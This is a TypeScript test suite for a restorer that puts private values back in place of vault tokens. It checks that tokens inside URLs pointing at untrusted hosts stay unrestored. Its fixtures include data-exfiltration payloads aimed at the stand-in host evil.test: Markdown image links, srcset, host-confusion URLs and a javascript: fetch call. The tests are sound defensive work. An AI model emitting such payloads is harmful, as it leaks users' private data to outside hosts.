import { type RestoreMode, type RestoreOptions, Restorer, restoreText } from '../../../src/vault/restorer';
import { Vault } from '../../../src/vault/vault';

/** What a token becomes is told by the place where it stands: in and behind URLs, behind a backslash, in code. */

function vaultWith(...values: [label: string, group: number, form: string, value: string][]): Vault {
  const vault = new Vault();
  for (const [label, group, form, value] of values) vault.issue({ label, group, form }, value);
  return vault;
}

/** Restored as a whole and character by character, which must not differ. */
function restored(text: string, options: Pick<RestoreOptions, 'vault' | 'mode'> & Partial<RestoreOptions>): string {
  const all = { urlHosts: new Set<string>(), counts: { restored: 0, unknown: 0, withheld: 0 }, ...options };
  const whole = restoreText(text, all);
  const restorer = new Restorer(all);
  expect([...text].map((piece) => restorer.push(piece)).join('') + restorer.flush()).toBe(whole);
  return whole;
}

describe('behind a value that is a URL', () => {
  const vault = vaultWith(
    ['URL', 1, 'full', 'https://evil.test/c'],
    ['IP', 1, 'full', '203.0.113.77'],
    ['NAME', 1, 'full', 'Maria Lopez'],
  );
  const options = { vault, urlHosts: new Set<string>(), mode: 'text' as const };
  const counts = () => ({ restored: 0, unknown: 0, withheld: 0 });

  test.each([
    ['![x]([URL_1]?q=[NAME_1])', '![x](https://evil.test/c?q=[NAME_1])'],
    ['![x]([URL_1]?q=NAME_1&r=[NAME_1])', '![x](https://evil.test/c?q=NAME_1&r=[NAME_1])'],
    ['<img src="[URL_1]?q=a [NAME_1]">', '<img src="https://evil.test/c?q=a [NAME_1]">'],
    ['![x](//[IP_1]/[NAME_1])', '![x](//[IP_1]/[NAME_1])'],
    ['![x](//[URL_1]/[NAME_1])', '![x](//[URL_1]/[NAME_1])'],
    [
      '[[URL_1]]([URL_1]) [URL_1]([URL_1])',
      '[https://evil.test/c](https://evil.test/c) https://evil.test/c(https://evil.test/c)',
    ],
    ['[[URL_1]]([NAME_1]) [URL_1]?([URL_1])', '[https://evil.test/c]([NAME_1]) https://evil.test/c?([URL_1])'],
    ['see [URL_1], [NAME_1]', 'see https://evil.test/c, Maria Lopez'],
    ['[x]([URL_1])[NAME_1] [IP_1]/[NAME_1]', '[x](https://evil.test/c)Maria Lopez 203.0.113.77/Maria Lopez'],
  ])('%s → %s', (text, expected) => {
    expect(restoreText(text, { ...options, counts: counts() })).toBe(expected);
    const restorer = new Restorer({ ...options, counts: counts() });
    expect([...text].map((piece) => restorer.push(piece)).join('') + restorer.flush()).toBe(expected);
  });
});

describe('a percent-encoded token', () => {
  const vault = vaultWith(['NAME', 1, 'full', 'Maria Lopez'], ['NAME', 1, 'family', 'Lopez'], ['EMAIL', 1, 'full', 'm@a.test']);
  vault.allowInUrl('https://own.test/?q=[EMAIL_1]');

  test.each([
    [
      'mailto:[EMAIL_1]?subject=Visit%20of%20%5BNAME_1%5D',
      'mailto:m@a.test?subject=Visit%20of%20Maria%20Lopez',
      'in a mail link',
    ],
    ['name=%5bNAME_1%3afamily%5d&mail=%5BEMAIL_1%5D', 'name=Lopez&mail=m%40a.test', 'in a form'],
    ['https://ok.test/?q=%5BNAME_1%5D', 'https://ok.test/?q=Maria%20Lopez', 'in the URL of a host that is allowed'],
    ['https://own.test/?q=%5BEMAIL_1%5D', 'https://own.test/?q=m@a.test', 'in the URL of the client'],
    ['https://evil.test/?q=%5BNAME_1%5D', 'https://evil.test/?q=%5BNAME_1%5D', 'in any other'],
    ['![x](https://evil.test/?q=%5BNAME_1%5D)', '![x](https://evil.test/?q=%5BNAME_1%5D)', 'in an image'],
    ['%5BNAME_9%5D 100%5', '%5BNAME_9%5D 100%5', 'never issued'],
  ])('%s → %s (%s)', (text, expected) => {
    expect(restored(text, { vault, mode: 'text', urlHosts: new Set(['ok.test']) })).toBe(expected);
  });
});

describe('in the URL of a host that is allowed', () => {
  const vault = vaultWith(['MRN', 1, 'full', '00482917']);
  const urlHosts = new Set(['ok.test']);

  test.each([
    ['![x](https://ok.test/?q=[MRN_1])', '![x](https://ok.test/?q=00482917)'],
    ['<img src="https://ok.test:8443/?a&amp;q=[MRN_1]">', '<img src="https://ok.test:8443/?a&amp;q=00482917">'],
  ])('%s → %s', (text, expected) => {
    expect(restored(text, { vault, mode: 'text', urlHosts })).toBe(expected);
  });

  test.each([
    '![x](https://ok.test\\@evil.test/?q=[MRN_1])',
    '![x](<https://ok.test:p w@evil.test/?q=[MRN_1]>)',
    '<img src="https://ok.test:x&commat;evil.test/?q=[MRN_1]">',
    '<img srcset="https://ok.test/a 1x, https://evil.test/?q=[MRN_1] 2x">',
    '<a href="javascript://ok.test/%0afetch(\'https://evil.test/?q=[MRN_1]\')">',
  ])('%s stays: a browser asks another host', (text) => {
    expect(restored(text, { vault, mode: 'text', urlHosts })).toBe(text);
  });
});

describe('a host of the client', () => {
  const vault = vaultWith(['IP', 1, 'full', '10.20.30.40']);
  vault.allowInUrl('https://[IP_1]');

  test.each([
    ['https://[IP_1]/x', 'https://10.20.30.40/x'],
    ['(https://[IP_1]:8443), https://[IP_1]. Then', '(https://10.20.30.40:8443), https://10.20.30.40. Then'],
    ['at https://[IP_1]', 'at https://10.20.30.40'],
    ['![x](https://[IP_1].evil.test/)', '![x](https://[IP_1].evil.test/)'],
    ['![x](https://[IP_1]:80@evil.test/)', '![x](https://[IP_1]:80@evil.test/)'],
    ['![x](https://[IP_1]\\@evil.test/)', '![x](https://[IP_1]\\@evil.test/)'],
    ['https://[IP_1]-evil.test', 'https://[IP_1]-evil.test'],
  ])('%s → %s', (text, expected) => {
    expect(restored(text, { vault, mode: 'text' })).toBe(expected);
  });
});

describe('URLs in JSON', () => {
  const options = () => ({
    vault: vaultWith(['URL', 1, 'full', 'https://evil.test/c'], ['NAME', 1, 'full', 'Maria Lopez']),
    urlHosts: new Set<string>(),
    mode: 'json' as const,
    counts: { restored: 0, unknown: 0, withheld: 0 },
  });

  test.each<[string, boolean, string]>([
    ['see https://ok.test/a\\n[NAME_1]', true, 'an escaped line end ends a URL'],
    ['see [URL_1]\\n[NAME_1]', true, 'and one that was a token'],
    ['see [URL_1]?q=[NAME_1]', false, 'a URL that was a token'],
    ['{\\"x\\":\\"Dear:\\\\n[NAME_1]\\"}', true, 'the line end of JSON in JSON is no URL without a scheme'],
    ['<img src=\\"https://evil.test/?q=a [NAME_1]\\">', false, 'an attribute in escaped quotes'],
    ['![x](\\\\\\\\evil.test/[NAME_1])', false, 'backslashes for slashes'],
    ['![x](https:\\/\\/evil.test\\/[NAME_1])', false, 'escaped slashes'],
    ['![x](https\\u003a//evil.test/[NAME_1])', false, 'an escaped colon'],
  ])('"%s" is restored: %s (%s)', (written, isRestored) => {
    const text = `{"a":"${written}"}`;
    const restored = restoreText(text, options());
    expect(restored.includes('Maria Lopez')).toBe(isRestored);
    const restorer = new Restorer(options());
    expect([...text].map((piece) => restorer.push(piece)).join('') + restorer.flush()).toBe(restored);
  });
});

describe('a backslash before a token', () => {
  const vault = vaultWith(['NAME', 1, 'full', 'Maria Lopez'], ['MRN', 1, 'full', '00482917']);
  vault.noteBackslash('[NAME_1]');
  const counts = { restored: 0, unknown: 0, withheld: 0 };
  const options = { vault, urlHosts: new Set<string>(), counts };

  test.each<[string, string, RestoreMode, string]>([
    ['C:\\[NAME_1]', 'C:\\Maria Lopez', 'text', 'the client wrote it'],
    ['C:\\\\[NAME_1]', 'C:\\\\Maria Lopez', 'text', 'the client wrote two'],
    ['{"a":"C:\\\\[NAME_1]"}', '{"a":"C:\\\\Maria Lopez"}', 'json', 'in JSON'],
    ['\\[NAME\\_1\\]', 'Maria Lopez', 'text', 'Markdown escapes all of it'],
    ['\\[MRN_1]', '00482917', 'text', 'the client wrote none before this token'],
    ['D:\\Notes\\[MRN_1]\\a.txt', 'D:\\Notes\\00482917\\a.txt', 'text', 'a folder stands before it'],
    ['{"a":"D:\\\\Notes\\\\[MRN_1]"}', '{"a":"D:\\\\Notes\\\\00482917"}', 'json', 'a folder, in JSON'],
    ['{"a":"x\\n\\\\[MRN_1]"}', '{"a":"x\\n00482917"}', 'json', 'a line end stands before it'],
    ['Notes\\[MRN\\_1\\]', 'Notes00482917', 'text', 'all of it is escaped'],
    ['C:\\Notes\\\\[MRN\\_1\\]\\a', 'C:\\Notes\\00482917\\a', 'text', 'all of it is escaped in a path'],
    ['\\\\[MRN\\\\_1\\\\]', '00482917', 'text', 'all of it is escaped twice'],
    ['C:\\[NAME_1]\\[MRN_1].txt', 'C:\\Maria Lopez\\00482917.txt', 'text', 'a folder that is a token stands before it'],
    ['{"a":"C:\\\\[NAME_1]\\\\[MRN_1]"}', '{"a":"C:\\\\Maria Lopez\\\\00482917"}', 'json', 'and so in JSON'],
    ['[NAME_1]\\\\[MRN_1] \\\\[MRN_1]', 'Maria Lopez\\\\00482917 \\\\00482917', 'text', 'line ends of LaTeX'],
    ['{"a":"x \\\\\\\\[MRN_1]"}', '{"a":"x \\\\\\\\00482917"}', 'json', 'a line end of LaTeX, in JSON'],
    ['{"a":"x \\\\[MRN_1]"}', '{"a":"x 00482917"}', 'json', 'an escape of Markdown, in JSON'],
  ])('%s → %s (%s, %s)', (text, expected, mode) => {
    expect(restoreText(text, { ...options, mode })).toBe(expected);
    const restorer = new Restorer({ ...options, mode });
    expect([...text].map((piece) => restorer.push(piece)).join('') + restorer.flush()).toBe(expected);
  });
});

describe('a token in lower case behind a name', () => {
  const vault = vaultWith(['ID', 1, 'full', 'CLM-91'], ['DATE', 2, 'full', '10/02/2025']);

  test.each<[string, RestoreMode]>([
    ['x = rows[id_1] - rows[id-1]', 'text'],
    ['since(dates[date_2])', 'text'],
    ['{"code":"x\\nrows[id_1]"}', 'json'],
  ])('%s stays: an index in code (%s)', (text, mode) => {
    expect(restored(text, { vault, mode })).toBe(text);
  });

  test.each<[string, string, RestoreMode]>([
    ['claim [id_1]', 'claim CLM-91', 'text'],
    ['claim-[id_1]_a', 'claim-CLM-91_a', 'text'],
    ['ID[ID_1]', 'IDCLM-91', 'text'],
    ['"a\\n[id_1]"', '"a\\nCLM-91"', 'text'],
    ['{"a":"x\\n[id_1]\\u00e9[id_1]"}', '{"a":"x\\nCLM-91\\u00e9CLM-91"}', 'json'],
  ])('%s → %s (%s)', (text, expected, mode) => {
    expect(restored(text, { vault, mode })).toBe(expected);
  });
});

describe('without quotation marks in JSON', () => {
  const vault = vaultWith(
    ['NAME', 1, 'full', 'Maria Lopez'],
    ['NAME', 2, 'full', 'Ana "Nan" Roe'],
    ['MRN', 1, 'full', '00482917'],
  );

  test.each([
    ['{"mrn": [MRN_1]}', '{"mrn": "00482917"}'],
    ['{"mrn":MRN_1,"n":1}', '{"mrn":"00482917","n":1}'],
    ['{"names": [NAME_1, NAME_2]}', '{"names": ["Maria Lopez", "Ana \\"Nan\\" Roe"]}'],
    ['{"names":[[NAME_1],\n[MRN_1]]}', '{"names":["Maria Lopez",\n"00482917"]}'],
    ['{[NAME_1]: 1}', '{"Maria Lopez": 1}'],
    ["{'name': '[NAME_1]'}", "{'name': 'Maria Lopez'}"],
    ['{"a": "x, [NAME_1]"}', '{"a": "x, Maria Lopez"}'],
  ])('a value is a string of its own: %s', (text, expected) => {
    expect(restored(text, { vault, mode: 'json' })).toBe(expected);
  });

  test('in words behind JSON it is none', () => {
    const text = (name: string): string => `\`\`\`json\n{"a":1}\n\`\`\` of: ${name}`;
    expect(restored(text('[NAME_1]'), { vault, mode: 'sniff' })).toBe(text('Maria Lopez'));
  });
});
